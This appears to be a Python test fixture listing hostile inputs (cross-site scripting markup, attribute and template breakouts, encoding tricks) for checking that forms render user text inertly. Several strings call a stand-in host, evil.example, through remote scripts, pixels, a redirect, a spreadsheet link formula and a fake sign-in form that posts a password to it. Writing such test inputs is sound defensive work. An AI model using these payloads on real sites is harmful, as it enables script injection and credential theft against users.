"""Texts by somebody who means harm: what must stay text wherever people can write.

MARKUP    markup that runs code, loads from elsewhere or changes the page
BREAKOUTS texts that try to leave the place where they stand: an attribute, a comment, a template, a line
NAMES     all of them, some to a line, short enough for a name or a title
LONG      all of them, one to a paragraph
"""

from collections.abc import Iterator

# Markup that runs code, loads from elsewhere, or changes the page, in the ways that have got through filters before.
MARKUP = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>alert(1)//",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    '<img/src="x"/onerror="alert(1)">',
    "<IMG SRC=`javascript:alert(1)`>",
    '<img src="javascript:alert(1)">',
    "<img src=https://evil.example/pixel.gif>",
    "<img src=//evil.example/pixel.gif>",
    "![pixel](https://evil.example/pixel.gif)",
    "![run](javascript:alert(1))",
    "![run](data:text/html;base64,PHNjcmlwdD4=)",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=alert(1)>">',
    "<math href=javascript:alert(1)>click</math>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<body onload=alert(1)>",
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<style>body{display:none}</style>",
    '<p style="position:fixed;inset:0">cover</p>',
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<form action="https://evil.example"><input name="password"><button>Sign in</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<marquee onstart=alert(1)>x</marquee>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    '<a href="https://example.org" onclick="alert(1)" target="_top">x</a>',
    '<p onmouseover="alert(1)">x</p>',
    '<p id="location" name="cookie">clobber</p>',
    '<section class="govuk-error-summary">fake</section>',
    '<pre tabindex="5">x</pre>',
    '<div tabindex="-1">x</div>',
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<textarea></textarea><script>alert(1)</script>",
    "<title></title><script>alert(1)</script>",
    "<template><script>alert(1)</script></template>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "```html\n<script>alert(1)</script>\n```",
    "`<img src=x onerror=alert(1)>`",
    "::: challenge <img src=x onerror=alert(1)>\nx\n:::",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "\x00<script>alert(1)</script>",
    "<a\x00 href=javascript:alert(1)>x</a>",
]  # fmt: skip

BREAKOUTS = [
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "]]><script>alert(1)</script>",
    '" onmouseover="alert(1)" x="',
    "' onfocus='alert(1)' autofocus='",
    "` onerror=alert(1) `",
    '" autofocus onfocus=alert(1) "',
    "x onerror=alert(1)",
    "javascript:alert(1)",
    "{{ 7|add:7 }}{% debug %}{% include 'base.html' %}",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}`${alert(1)}`",
    "#{alert(1)}<%= alert(1) %>",
    "%(name)s %s {name} %(password)s",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "＜script＞alert(1)＜/script＞",
    "\ufeff<script>alert(1)</script>",
    "\u202e<script>alert(1)</script>",
    "\u2028<script>alert(1)</script>\u2029",
    "<scr\u200bipt>alert(1)</scr\u200bipt>",
    "<ſcript>alert(1)</ſcript>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    '<plaintext><xmp><noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    "<x onclick=alert(1) style=animation-name:x>click</x>",
    "<a id=defaultView name=cookie href=//evil.example>x</a>",
    '<img src=1 href=1 onerror="javascript:alert(1)"></img>',
    "<isindex type=image src=1 onerror=alert(1)>",
    "<form><button formaction=javascript:alert(1)>x",
    "<input type=image src=x onerror=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'/>#x\"></svg>",
    '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
    '=HYPERLINK("http://evil.example","Click")',
]
TEXTS = [*MARKUP, *BREAKOUTS]


def groups(texts: list[str], *, most: int) -> Iterator[str]:
    """The texts, several to a name, none cut in two."""
    line = ""
    for text in texts:
        if line and len(line) + len(text) + 1 > most:
            yield line
            line = ""
        line = f"{line} {text}" if line else text
    yield line


# PostgreSQL takes no NUL: forms refuse it first.
NAMES = list(groups([text.replace("\x00", "").replace("\n", " ") for text in TEXTS], most=195))
LONG = "\n\n".join(TEXTS).replace("\x00", "")
